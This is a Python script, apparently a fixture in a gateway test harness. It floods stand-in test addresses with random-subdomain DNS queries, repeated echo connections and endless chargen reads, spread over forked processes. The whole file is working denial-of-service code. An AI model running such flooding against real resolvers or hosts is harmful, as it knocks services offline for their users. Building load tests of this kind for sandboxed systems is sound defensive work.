# SPDX-License-Identifier: Apache-2.0
"""As much as a gateway takes: questions, connections and bytes, without end."""
import os
import socket
import sys

sys.path.insert(0, "/inside")
from attack import question  # noqa: E402


def questions():
    sock = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    sock.connect(("198.18.0.1", 53))
    while True:
        try:
            sock.send(question(os.urandom(8).hex().encode() + b".evil.test"))
        except OSError:
            pass


def connections():
    while True:
        try:
            socket.create_connection(("stream.hutch.test", 7), 1).close()
        except OSError:
            pass


def bytes_in():
    while True:
        try:
            sock = socket.create_connection(("stream.hutch.test", 19), 5)
            while sock.recv(1 << 18):
                pass
        except OSError:
            pass


for job in questions, connections, bytes_in, bytes_in:
    if os.fork() == 0:
        job()
os.wait()
